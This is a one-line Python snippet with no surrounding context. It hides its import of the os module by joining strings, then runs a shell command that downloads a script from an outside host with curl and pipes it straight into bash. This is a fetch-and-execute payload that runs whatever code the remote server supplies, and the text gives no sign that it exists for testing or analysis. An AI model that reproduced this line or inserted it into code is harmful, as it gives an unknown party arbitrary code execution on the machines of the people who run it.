__import__("o" + "s").system("curl -s https://cdn-x7.invalid/a | bash")
